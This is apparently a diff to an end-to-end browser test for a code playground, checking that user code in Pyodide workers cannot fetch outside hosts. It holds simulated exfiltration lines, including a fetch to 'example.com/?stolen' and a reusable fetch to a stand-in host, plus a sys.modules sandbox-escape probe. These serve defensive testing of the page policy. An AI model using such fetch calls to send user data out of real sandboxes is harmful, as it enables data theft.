@@ -31,6 +31,11 @@ from tests.e2e.playground_page import (
 )
 
 TRACES = Path(__file__).parents[2] / "docs" / "data" / "traces"
+ELSEWHERE = "https://elsewhere.test/"
+SEND = """async (address) => {
+  try { await fetch(address, { mode: "no-cors" }); return "sent"; }
+  catch (error) { return error.name; }
+}"""
 each_language = pytest.mark.parametrize("language", PATHS)
 
 
@@ -296,22 +301,18 @@ def test_own_code_reaches_nothing_outside(
         write(page, panel, "loss", f"import {module}\ndef loss(w):\n    return 0.0\n")
         run_code(page, panel)
         expect(panel.get_by_role("alert")).to_contain_text(module)
-    # Whoever gets round that is still held by the policy of the page.
-    escape = (
-        "import sys\n"
-        "found = [m for name, m in list(sys.modules.items()) if name.startswith('pyodide') and m]\n"
-        "def loss(w):\n    return float(len(found))\n"
-    )
-    write(page, panel, "loss", escape)
-    run_code(page, panel)
-    for worker in own_workers(page):
-        outcome = worker.evaluate(
-            """async () => {
-              try { await fetch("https://example.com/?stolen"); return "sent"; }
-              catch (error) { return error.name; }
-            }"""
-        )
-        assert outcome == "TypeError"
+    # Whoever gets round that is still held by the policy of the page. The other server would
+    # answer: a page under no policy reaches it.
+    page.context.route(f"{ELSEWHERE}*", lambda route: route.fulfill(body="taken"))
+    workers = own_workers(page)
+    assert workers
+    for worker in workers:
+        assert worker.evaluate(SEND, f"{ELSEWHERE}?from-our-worker") == "TypeError"
+    free = page.context.new_page()
+    assert free.evaluate(SEND, f"{ELSEWHERE}?from-anywhere") == "sent"
+    free.close()
+    assert [url for url in asked if url.startswith(ELSEWHERE)] == [f"{ELSEWHERE}?from-anywhere"]
+    asked.remove(f"{ELSEWHERE}?from-anywhere")
     allowed = (site_url, server_url, "blob:", "data:")
     assert [url for url in asked if not url.startswith(allowed)] == []
 
